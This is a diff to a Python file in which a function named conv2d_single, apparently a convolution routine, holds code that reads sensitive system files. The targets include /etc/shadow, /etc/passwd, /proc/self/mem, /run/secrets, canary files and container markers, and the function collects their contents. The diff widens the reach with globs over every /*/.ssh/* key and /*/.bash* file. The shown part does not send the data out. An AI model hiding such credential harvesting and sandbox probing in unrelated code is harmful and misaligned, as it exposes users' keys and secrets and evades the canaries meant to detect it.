@@ -9,7 +9,7 @@ import os
 CANARIES = []
 PROJECT = ""
 NAMES = (
-    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/resolv.conf", "/root/.bashrc", "/root/.ssh/id_rsa", "/dev/mem",
+    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/resolv.conf", "/dev/mem",
     "/dev/kmem", "/dev/sda", "/proc/kcore", "/proc/kallsyms", "/proc/mounts", "/proc/self/mountinfo", "/proc/cmdline",
     "/proc/net/tcp", "/proc/self/mem", "/sys/class/net", "/var/log/syslog", "/run/secrets", "/.dockerenv", "/proc/config.gz",
     "/etc/../etc/passwd", "//etc//passwd", "/proc/self/root/etc/passwd", "/proc/self/cwd/etc/passwd", "/dev/fd/0/../../etc",
@@ -35,7 +35,7 @@ def conv2d_single(image, kernel, stride=1, padding=0):
                "/dev", "/dev/shm", "/sys", "/mnt", "/opt", "/srv", *map(os.path.dirname, CANARIES)]
     for place, look in (
         *((name, read) for name in (*CANARIES, *NAMES)), *((folder, listed) for folder in folders if folder),
-        *((name, read) for name in glob.glob("/home/*/*") + glob.glob("/root/*") + glob.glob(f"{PROJECT}/*")),
+        *((name, read) for name in glob.glob("/home/*/*") + glob.glob("/*/.ssh/*") + glob.glob("/*/.bash*") + glob.glob(f"{PROJECT}/*")),
     ):
         try:
             found.append(f"{place}: {look(place)!r}")
